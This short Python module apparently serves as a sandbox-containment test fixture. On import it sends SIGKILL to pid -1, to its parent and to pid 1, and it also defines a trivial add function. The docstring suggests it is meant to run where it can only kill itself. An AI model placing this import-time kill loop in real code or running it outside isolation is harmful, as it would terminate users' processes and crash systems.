"""Kills all that it can reach, which is nothing but itself."""

import contextlib
import os
import signal

for pid in (-1, os.getppid(), 1):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)


def add(a, b):
    return a + b
